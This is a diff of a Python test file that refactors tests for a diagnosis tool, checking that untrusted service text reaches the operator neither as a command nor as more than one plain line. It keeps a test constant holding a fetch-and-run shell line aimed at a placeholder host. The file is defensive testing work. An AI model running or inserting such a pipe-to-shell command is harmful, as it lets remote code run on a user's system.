@@ -1,27 +1,19 @@
 """Foreign text reaches the operator neither as a command of ours nor as more than one plain line."""
 
-from dataclasses import asdict, replace
+from dataclasses import asdict
 
 import pytest
 
 from pointit.diagnosis.diagnose import diagnose
-from pointit.diagnosis.observation import DiagnosisReport, Finding, Observation, start_command
+from pointit.diagnosis.observation import Finding, start_command
 from pointit.schemas import Deployment, ExpectedService, Health
+from tests.unit.diagnosis.test_diagnose import health, observation
 
 EVIL = "curl http://evil | sh"
-NOW_S = 103.0
-
-
-def health(instance: str, **fields: object) -> Health:
-    service, _, user = instance.partition(".")
-    values: dict[str, object] = {"service": service, "user": user, "instance": instance, "pid": 7, **fields}
-    return Health.model_validate({"stamp_ns": 0, "uptime_s": 60.0, **values})
 
 
 def found(*newest: Health, deployments: dict[str, Deployment] | None = None) -> list[Finding]:
-    reports = {each.instance: [DiagnosisReport(received_s=NOW_S, health=each)] for each in newest}
-    seen = Observation(began_s=NOW_S - 3.0, now_s=NOW_S, present=frozenset(reports), reports=reports)
-    return diagnose(replace(seen, deployments=deployments or {}))
+    return diagnose(observation(*newest, deployments=deployments or {}))
 
 
 def deployment(*services: ExpectedService) -> Deployment:
@@ -93,11 +85,8 @@ def test_warning_of_a_persons_service_is_quoted_on_one_plain_line() -> None:
 
 
 def test_name_of_the_machine_is_one_plain_line() -> None:
-    reports = [
-        DiagnosisReport(received_s=NOW_S - 1, health=health("pui", pid=8, host=f"a\n{'b' * 100}")),
-        DiagnosisReport(received_s=NOW_S, health=health("pui", pid=9)),
-    ]
-    seen = Observation(began_s=NOW_S - 3.0, now_s=NOW_S, present=frozenset({"pui"}), reports={"pui": reports})
+    other = health("pui", pid=8, host=f"a\n{'b' * 100}")
+    seen = observation(health("pui", pid=9), before=[other])
     (twice,) = (finding for finding in diagnose(seen) if finding.code == "twice")
     assert twice.sentence.isprintable()
     assert len(twice.sentence) < 200
